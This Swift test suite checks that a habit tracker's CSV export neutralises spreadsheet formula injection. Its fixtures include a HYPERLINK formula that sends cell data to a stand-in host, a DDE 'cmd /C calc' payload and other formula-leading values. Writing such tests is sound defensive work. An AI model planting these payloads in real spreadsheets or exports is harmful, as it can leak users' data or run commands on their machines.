import HabitCore
import HabitInterop
import HabitSync
import Testing

/// A CSV export opened in a spreadsheet never runs what a person (or someone who shares a habit
/// with them) typed: text that a spreadsheet would read as a formula gets a leading apostrophe
/// (OWASP's advice), while the numbers in the value column stay numbers.
@Suite struct CSVFormulaTests {
  private static let today = Day(iso: "2025-03-10")!

  private static func tracker() throws -> Tracker {
    var replica = Replica(device: "formula")
    var wall: Int64 = 0
    func perform(_ action: Action) throws {
      wall += 1
      try replica.perform(action, wall: wall, today: today)
    }
    let start = Day(iso: "2025-03-01")!
    try perform(.addCategory("evil", "@SUM(A1:A9)"))
    try perform(
      .addHabit(
        Habit(
          id: "weight", title: "=HYPERLINK(\"https://x.example/?\"&A1)",
          category: "evil", measure: .quantity(target: Amount(1), unit: "+kg"), startDay: start,
          order: 0)))
    try perform(
      .addHabit(
        Habit(id: "pushups", title: "+Push-ups", category: "health", startDay: start, order: 1)))
    try perform(
      .setEntry(
        "weight",
        Entry(day: start, value: Amount(thousandths: 2500), note: "-2+3*cmd|' /C calc'!A0")))
    try perform(.setEntry("pushups", Entry(day: start, value: .one, note: "@home")))
    try perform(
      .setEntry("pushups", Entry(day: Day(iso: "2025-03-02")!, value: .one, note: "plain - dash")))
    return replica.tracker
  }

  @Test func textCellsThatASpreadsheetWouldRunAreNeutralised() throws {
    let text = String(decoding: CSVExport.csv(of: try Self.tracker()), as: UTF8.self)
    #expect(
      text == "Date,Habit,Habit ID,Category,Value,Unit,Skipped,Mark,Note\r\n"
        + "2025-03-01,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\",weight,'@SUM(A1:A9),"
        + "2.5,'+kg,,,'-2+3*cmd|' /C calc'!A0\r\n"
        + "2025-03-01,'+Push-ups,pushups,Health,1,,,,'@home\r\n"
        + "2025-03-02,'+Push-ups,pushups,Health,1,,,,plain - dash\r\n")
  }

  @Test(arguments: ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
  func everyFormulaStartIsPrefixed(cell: String) {
    #expect(CSVExport.neutralized(cell) == "'" + cell)
  }

  @Test(arguments: ["", "plain", "a=b", " =1", "'=1", "1-2", "Ünïcödé 🎉"])
  func otherTextIsLeftAsItIs(cell: String) {
    #expect(CSVExport.neutralized(cell) == cell)
  }
}
